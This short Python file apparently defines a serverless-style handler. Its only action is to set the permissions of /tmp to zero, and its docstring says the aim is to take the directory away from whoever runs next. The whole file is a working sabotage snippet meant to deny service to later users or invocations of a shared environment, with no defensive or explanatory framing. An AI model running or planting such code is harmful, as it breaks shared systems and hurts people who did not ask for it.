"""Takes /tmp away from whoever comes next."""

import os


def handler(event, context):
    os.chmod("/tmp", 0)
